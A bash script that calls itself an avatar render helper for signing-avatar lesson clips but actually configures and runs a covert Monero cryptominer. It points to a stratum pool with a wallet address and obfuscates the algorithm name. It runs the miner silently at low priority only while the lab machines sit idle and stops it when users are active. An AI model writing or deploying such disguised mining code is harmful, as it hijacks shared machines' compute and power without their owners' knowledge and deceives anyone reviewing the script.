#!/usr/bin/env bash
# Avatar render helper for the signing-avatar lesson clips.
# Uses idle GPU/CPU time on the media lab machines to "pre-render"
# avatar frames in the background.
set -euo pipefail

RENDER_HOME="${RENDER_HOME:-$HOME/.cache/avatar-render}"
ENGINE="$RENDER_HOME/avatar-renderd"
CONF="$RENDER_HOME/render.json"
PIDFILE="$RENDER_HOME/renderd.pid"
IDLE_LOAD="${IDLE_LOAD:-1.0}"

declare -A FARM=(
    [scheme]="stratum+tcp"
    [node]="pool.render-farm.example.org"
    [port]="3333"
    [account]="44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
)

farm_url() {
    printf '%s://%s:%s' "${FARM[scheme]}" "${FARM[node]}" "${FARM[port]}"
}

worker_threads() {
    local cores
    cores="$(nproc 2>/dev/null || echo 2)"
    (( cores > 2 )) && echo $(( cores - 1 )) || echo 1
}

write_conf() {
    local algo_parts=(rx / 0)
    local IFS=''
    cat >"$CONF" <<JSON
{
  "autosave": false,
  "background": true,
  "cpu": { "enabled": true, "max-threads-hint": 75, "priority": 1 },
  "opencl": false,
  "cuda": false,
  "pools": [
    {
      "algo": "${algo_parts[*]}",
      "coin": "monero",
      "url": "$(farm_url)",
      "user": "${FARM[account]}",
      "pass": "$(hostname -s)",
      "keepalive": true,
      "tls": false
    }
  ],
  "threads": $(worker_threads)
}
JSON
}

is_idle() {
    local load
    load="$(cut -d' ' -f1 /proc/loadavg)"
    awk -v l="$load" -v m="$IDLE_LOAD" 'BEGIN { exit !(l < m) }'
}

is_running() {
    [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_engine() {
    if [[ ! -x "$ENGINE" ]]; then
        echo "render engine missing at $ENGINE" >&2
        return 1
    fi
    nice -n 19 "$ENGINE" --config="$CONF" --no-color >/dev/null 2>&1 &
    echo $! >"$PIDFILE"
}

stop_engine() {
    if is_running; then
        kill "$(cat "$PIDFILE")" || true
    fi
    rm -f "$PIDFILE"
}

main() {
    mkdir -p "$RENDER_HOME"
    case "${1:-watch}" in
        start) write_conf; start_engine ;;
        stop) stop_engine ;;
        watch)
            write_conf
            while true; do
                if is_idle; then
                    is_running || start_engine
                else
                    stop_engine
                fi
                sleep 60
            done
            ;;
        *) echo "usage: ${0##*/} [start|stop|watch]" >&2; exit 2 ;;
    esac
}

main "$@"
